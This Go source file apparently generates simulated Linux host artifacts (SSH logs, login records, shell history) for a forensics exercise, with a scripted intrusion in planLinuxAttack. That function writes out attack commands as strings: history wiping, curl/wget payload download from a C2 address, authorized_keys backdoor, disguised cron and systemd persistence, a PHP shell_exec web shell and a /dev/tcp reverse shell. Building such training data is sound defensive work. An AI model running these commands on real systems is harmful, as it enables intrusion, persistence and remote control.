package simhost

import (
	"fmt"
	"slices"
	"strings"
	"time"
)

// sshSession is one interactive SSH login with a pseudo-terminal: it produces auth.log lines, wtmp
// records, a lastlog entry and shell history, all from this one value.
type sshSession struct {
	user      *user
	from      string
	method    string // "publickey" or "password"
	keyFP     string
	start     time.Time
	end       time.Time // zero when still logged in at the anchor
	pid       int
	port      int
	tty       string // "pts/N"
	logind    int    // systemd-logind session id
	cmds      []timedCmd
	rootCmds  []timedCmd // typed in a root shell opened with "sudo -i"
	clearHist bool       // the session emptied the user's history file before exiting
}

type timedCmd struct {
	t   time.Time
	cmd string
}

// attempt is one failed password attempt, each on its own connection as brute-force tools make them.
type attempt struct {
	t       time.Time
	user    string
	invalid bool // no such account
	from    string
	port    int
	pid     int
}

type linuxAttack struct {
	c2IP       string
	c2Port     int
	payload    []byte
	payPath    string
	persist    string // "crontab", "crond" or "systemd"
	persistAt  time.Time
	cronLine   string // the crontab entry, for crontab and crond
	unit       string // unit name, for systemd
	keyLine    string
	webShell   string
	webShellAt time.Time
}

// linuxPlan holds the time-ordered facts of a Linux host shared by its renderers.
type linuxPlan struct {
	sessions []*sshSession
	failures []attempt // the attacker's and the internet's background noise
}

// pidAt gives process ids that grow with time since boot, as on a real host: about three processes a
// second, so events in different seconds never share a pid, wrapping at the kernel's pid_max.
func (p *plan) pidAt(r *rng, t time.Time) int {
	return 1000 + (int(t.Sub(p.boot)/time.Second)*3+r.Intn(3))%4_190_000
}

func (p *plan) planLinux() *linuxPlan {
	lp := &linuxPlan{}
	r := newRNG(p.h.Seed, "linux-sessions")
	jump := p.neighbour(r)
	for day := p.start; day.Before(p.now); day = day.Add(24 * time.Hour) {
		weekend := day.Weekday() == time.Saturday || day.Weekday() == time.Sunday
		for _, u := range p.users {
			chance := 55
			if u.service {
				chance = 20
			}
			if weekend {
				chance /= 5
			}
			if !r.Chance(chance) {
				continue
			}
			for range r.Between(1, 2) {
				start := day.Add(r.dur(7*time.Hour+30*time.Minute, 18*time.Hour))
				if !start.Before(p.now) {
					continue
				}
				s := &sshSession{user: u, from: jump, method: "publickey", keyFP: u.keyFP, start: start,
					port: r.Between(40000, 65000)}
				if r.Chance(30) {
					s.from = p.neighbour(r)
				}
				c := &clock{t: start, r: r}
				for range r.Between(2, 7) {
					cmd := pick(r, p.adminCommands())
					for !u.admin && strings.HasPrefix(cmd, "sudo") { // sudo would refuse them, and log it
						cmd = pick(r, p.adminCommands())
					}
					s.cmds = append(s.cmds, timedCmd{c.step(5*time.Second, 6*time.Minute), cmd})
				}
				s.end = c.step(20*time.Second, 40*time.Minute)
				lp.sessions = append(lp.sessions, s)
			}
		}
	}
	lp.failures = p.noiseFailures()
	if p.linux != nil {
		lp.failures = append(lp.failures, p.linuxAttempts...)
		lp.sessions = append(lp.sessions, p.linuxSessions...)
	}
	slices.SortStableFunc(lp.failures, func(a, b attempt) int { return a.t.Compare(b.t) })
	lp.failures = slices.DeleteFunc(lp.failures, func(a attempt) bool { return !a.t.Before(p.now) })
	slices.SortStableFunc(lp.sessions, func(a, b *sshSession) int { return a.start.Compare(b.start) })
	// Sessions overlapping the anchor stay open; those that would start after it never happened.
	lp.sessions = slices.DeleteFunc(lp.sessions, func(s *sshSession) bool { return !s.start.Before(p.now) })
	for _, s := range lp.sessions {
		if !s.end.IsZero() && !s.end.Before(p.now) {
			s.end = time.Time{}
		}
		s.cmds = slices.DeleteFunc(s.cmds, func(c timedCmd) bool { return !c.t.Before(p.now) })
		s.rootCmds = slices.DeleteFunc(s.rootCmds, func(c timedCmd) bool { return !c.t.Before(p.now) })
	}
	p.assignTTYs(r, lp.sessions)
	return lp
}

// assignTTYs gives each session the lowest free pts number, a logind session id in login order and an
// sshd pid, as the kernel, logind and the process table would.
func (p *plan) assignTTYs(r *rng, ss []*sshSession) {
	logind := r.Between(3, 40)
	var busy []*sshSession
	for _, s := range ss {
		busy = slices.DeleteFunc(busy, func(b *sshSession) bool { return !b.end.IsZero() && !b.end.After(s.start) })
		n := 0
		for slices.ContainsFunc(busy, func(b *sshSession) bool { return b.tty == fmt.Sprintf("pts/%d", n) }) {
			n++
		}
		s.tty = fmt.Sprintf("pts/%d", n)
		busy = append(busy, s)
		logind++
		s.logind = logind
		s.pid = p.pidAt(r, s.start)
	}
}

func (p *plan) adminCommands() []string {
	cmds := []string{"ls -la", "df -h", "free -m", "uptime", "top", "htop", "w", "sudo apt update",
		"sudo systemctl status ssh", "journalctl -p err --since today", "tail -n 100 /var/log/syslog",
		"sudo du -sh /var/log/*", "ps aux --sort=-%mem | head", "ss -tlnp", "git pull", "cd /opt/app",
		"cat /etc/os-release", "sudo apt list --upgradable", "docker ps", "vim ~/.bashrc", "ip a"}
	if p.distro == "rhel" {
		cmds = []string{"ls -la", "df -h", "free -m", "uptime", "top", "w", "sudo dnf check-update",
			"sudo systemctl status sshd", "journalctl -p err --since today", "sudo tail -n 100 /var/log/messages",
			"sudo du -sh /var/log/*", "ps aux --sort=-%mem | head", "ss -tlnp", "git pull", "cd /opt/app",
			"cat /etc/redhat-release", "sudo getenforce", "podman ps", "vim ~/.bashrc", "ip a"}
	}
	switch p.role {
	case "web":
		svc := p.web
		if svc == "apache" {
			svc = "apache2"
			if p.distro == "rhel" {
				svc = "httpd"
			}
		}
		cmds = append(cmds, "sudo systemctl reload "+svc, "sudo tail -f /var/log/"+webLogDir(p)+"/access"+webLogSuffix(p),
			"curl -I http://localhost/")
	case "db":
		cmds = append(cmds, "sudo -u postgres psql -c 'select version();'", "sudo systemctl status postgresql",
			"pg_lsclusters")
	}
	return cmds
}

// noiseFailures is the background of internet scanners every exposed SSH server sees.
func (p *plan) noiseFailures() []attempt {
	r := newRNG(p.h.Seed, "ssh-noise")
	var out []attempt
	names := []string{"admin", "ubuntu", "test", "user", "guest", "oracle", "postgres", "ftpuser", "pi", "root",
		"support", "git", "hadoop", "minecraft", "steam", "nagios", "centos", "ec2-user"}
	for t := p.start.Add(r.dur(time.Hour, 9*time.Hour)); t.Before(p.now); t = t.Add(r.dur(2*time.Hour, 14*time.Hour)) {
		ip := publicIP(r)
		c := &clock{t: t, r: r}
		for range r.Between(1, 4) {
			name := pick(r, names)
			at := c.step(time.Second, 40*time.Second)
			out = append(out, attempt{t: at, user: name, invalid: p.userNamed(name) == nil && name != "root",
				from: ip, port: r.Between(30000, 65000), pid: p.pidAt(r, at)})
		}
	}
	return out
}

func (p *plan) planLinuxAttack() {
	r := newRNG(p.h.Seed, "linux-attack")
	var target *user
	for _, u := range p.users {
		if u.service {
			target = u
		}
	}
	a := &linuxAttack{c2IP: publicIP(r), c2Port: pick(r, []int{443, 4444, 8443, 1337, 9001, 53})}
	st := &p.story
	st.Access = "ssh-bruteforce"
	st.AttackerIP = publicIP(r)
	st.User = target.name
	st.C2 = fmt.Sprintf("%s:%d", a.c2IP, a.c2Port)
	st.BruteForceStart = p.now.Add(-r.dur(30*time.Hour, 80*time.Hour))

	invalid := []string{"admin", "test", "user", "ubuntu", "oracle", "postgres", "guest", "ftpuser", "support",
		"dev", "jenkins", "git", "tomcat"}
	c := &clock{t: st.BruteForceStart, r: r}
	n := r.Between(25, 140)
	for i := range n {
		at := c.t
		if i > 0 {
			at = c.step(time.Second, 7*time.Second)
		}
		name, bad := target.name, false
		if r.Chance(35) && i < n-5 {
			name = pick(r, invalid)
			bad = p.userNamed(name) == nil
		}
		p.linuxAttempts = append(p.linuxAttempts, attempt{t: at, user: name, invalid: bad, from: st.AttackerIP,
			port: r.Between(32768, 60999), pid: p.pidAt(r, at)})
	}
	st.Failures = n
	st.FirstSuccess = c.step(2*time.Second, 9*time.Second)

	dir := pick(r, []string{"/tmp", "/dev/shm", "/var/tmp"})
	name := pick(r, []string{".x", ".kworker", ".dbus-sess", ".ICE-unix-1", ".font-cache", "sysupdate"})
	a.payPath = dir + "/" + name
	a.payload = payload(p.h.Seed, "elf", st.C2)
	st.PayloadPath = a.payPath
	st.PayloadSHA256 = sha256Hex(a.payload)
	_, a.keyLine = sshKey(r, pick(r, []string{"root@kali", "user@localhost", "admin@debian", "x@x"}))
	st.AuthorizedKey = a.keyLine

	s := &sshSession{user: target, from: st.AttackerIP, method: "password", start: st.FirstSuccess,
		port: r.Between(32768, 60999), clearHist: true}
	sc := &clock{t: s.start, r: r}
	typ := func(cmd string) { s.cmds = append(s.cmds, timedCmd{sc.step(2*time.Second, 40*time.Second), cmd}) }
	root := func(cmd string) {
		s.rootCmds = append(s.rootCmds, timedCmd{sc.step(3*time.Second, 50*time.Second), cmd})
	}
	for _, cmd := range pick(r, [][]string{{"w", "id", "uname -a"}, {"id", "cat /etc/passwd", "sudo -l"},
		{"whoami", "uname -a", "cat /etc/os-release", "sudo -l"}}) {
		typ(cmd)
	}
	typ(pick(r, []string{"cat /dev/null > ~/.bash_history", "echo \"\" > ~/.bash_history",
		"truncate -s0 ~/.bash_history", "rm ~/.bash_history"}))
	typ("sudo -i")
	root("cd " + dir)
	url := fmt.Sprintf("http://%s/%s", a.c2IP, strings.TrimPrefix(name, "."))
	if r.Chance(50) {
		root("curl -fsSL " + url + " -o " + a.payPath)
	} else {
		root("wget -q " + url + " -O " + a.payPath)
	}
	root("chmod +x " + a.payPath)
	root("nohup " + a.payPath + " >/dev/null 2>&1 &")
	root("mkdir -p /root/.ssh")
	root("echo '" + a.keyLine + "' >> /root/.ssh/authorized_keys")
	a.persist = pick(r, []string{"crontab", "crond", "systemd"})
	every := pick(r, []int{5, 10, 15, 30})
	switch a.persist {
	case "crontab":
		a.cronLine = fmt.Sprintf("*/%d * * * * %s >/dev/null 2>&1", every, a.payPath)
		root("(crontab -l 2>/dev/null; echo '" + a.cronLine + "') | crontab -")
		st.PersistencePath = "/var/spool/cron/crontabs/root"
		if p.distro == "rhel" {
			st.PersistencePath = "/var/spool/cron/root"
		}
	case "crond":
		a.cronLine = fmt.Sprintf("*/%d * * * * root %s >/dev/null 2>&1", every, a.payPath)
		f := "/etc/cron.d/" + pick(r, []string{"0hourly-update", "sysstat-collect", "php-sessionclean", "dbus-cache"})
		root("echo '" + a.cronLine + "' > " + f)
		st.PersistencePath = f
	case "systemd":
		a.unit = pick(r, []string{"dbus-update", "systemd-networkd-helper", "kworker-sync", "snapd-refresh"}) + ".service"
		f := "/etc/systemd/system/" + a.unit
		root("curl -fsSL " + url + ".service -o " + f)
		root("systemctl daemon-reload")
		root("systemctl enable --now " + a.unit)
		st.PersistencePath = f
	}
	a.persistAt = s.rootCmds[len(s.rootCmds)-1].t
	st.Persistence = []string{st.PersistencePath, "/root/.ssh/authorized_keys"}
	if p.role == "web" {
		a.webShell = "/var/www/html/" + pick(r, []string{".cache.php", "wp-conf.php", "img/thumb.php", "status.php"})
		root("echo '<?php echo shell_exec($_GET[\"c\"]); ?>' > " + a.webShell)
		a.webShellAt = s.rootCmds[len(s.rootCmds)-1].t
		st.WebShell = a.webShell
		st.Persistence = append(st.Persistence, a.webShell)
	}
	root(fmt.Sprintf("nohup bash -c 'bash -i >& /dev/tcp/%s/%d 0>&1' >/dev/null 2>&1 &", a.c2IP, a.c2Port))
	root("exit")
	typ("exit")
	s.end = sc.step(time.Second, 5*time.Second)
	st.Commands = orderedCommands(s)
	st.LastActivity = s.rootCmds[len(s.rootCmds)-2].t
	p.linuxSessions = append(p.linuxSessions, s)

	// The key pays off: hours later the attacker comes back as root, no password needed.
	back := &sshSession{user: &user{name: "root", uid: 0}, from: st.AttackerIP, method: "publickey",
		start: s.end.Add(r.dur(5*time.Hour, 20*time.Hour)), port: r.Between(32768, 60999)}
	bc := &clock{t: back.start, r: r}
	back.keyFP = keyFingerprint(a.keyLine)
	for _, cmd := range []string{"ps aux | grep " + strings.TrimPrefix(name, "."), "ls -la " + dir, "last -n 20"} {
		back.rootCmds = append(back.rootCmds, timedCmd{bc.step(3*time.Second, 60*time.Second), cmd})
	}
	back.rootCmds = append(back.rootCmds, timedCmd{bc.step(3*time.Second, 30*time.Second), "exit"})
	back.end = bc.step(time.Second, 3*time.Second)
	// Commands reach history only when the shell exits, so a session still open at the anchor is not
	// part of the story on disk.
	if back.end.Before(p.now) {
		p.linuxSessions = append(p.linuxSessions, back)
		for _, c := range back.rootCmds[:len(back.rootCmds)-1] {
			st.Commands = append(st.Commands, c.cmd)
			st.LastActivity = c.t
		}
	}
	p.linux = a
}

// orderedCommands lists a session's commands as typed: the user's up to and including "sudo -i", then
// the root shell's, without the closing "exit"s.
func orderedCommands(s *sshSession) []string {
	var out []string
	for _, c := range s.cmds {
		if c.cmd == "exit" {
			continue
		}
		out = append(out, c.cmd)
		if c.cmd == "sudo -i" {
			for _, rc := range s.rootCmds {
				if rc.cmd != "exit" {
					out = append(out, rc.cmd)
				}
			}
		}
	}
	return out
}
